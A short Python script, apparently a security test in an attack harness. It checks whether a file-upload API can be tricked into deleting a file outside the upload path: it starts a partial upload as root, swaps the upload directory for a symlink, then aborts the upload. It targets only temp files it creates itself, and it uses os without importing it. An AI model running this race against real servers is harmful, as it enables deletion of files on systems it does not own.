# Swaps the directory of an upload for a link, then breaks the upload off, so that a file elsewhere is removed.
# Control: a file API that opens what it is told

import http.client
import tempfile
import time
import urllib.parse


def attempt():
    top = tempfile.mkdtemp()
    place, victim = os.path.join(top, "place"), os.path.join(top, "victim")
    for folder in [place, victim]:
        os.mkdir(folder)
    precious = os.path.join(victim, "file")
    with open(precious, "w") as file:
        file.write("precious")
    server = urllib.parse.urlsplit(given("FILES"))
    connection = http.client.HTTPConnection(server.hostname, server.port, timeout=5)
    query = urllib.parse.urlencode({"path": os.path.join(place, "file"), "username": "root"})
    connection.putrequest("POST", "/files?" + query)
    connection.putheader("X-Access-Token", given("TOKEN"))
    connection.putheader("Content-Type", "application/octet-stream")
    connection.putheader("Content-Length", str(4 << 20))
    connection.endheaders()
    connection.send(b"x" * (2 << 20))
    end = time.monotonic() + 10
    while not os.path.exists(os.path.join(place, "file")):
        if time.monotonic() > end:
            raise TimeoutError("the upload did not begin")
    os.rename(place, os.path.join(top, "aside"))
    os.symlink(victim, place)
    connection.close()
    end = time.monotonic() + 3
    while time.monotonic() < end:
        if not os.path.exists(precious):
            return "a file elsewhere was removed"
        time.sleep(0.05)
    return None


attack(attempt)
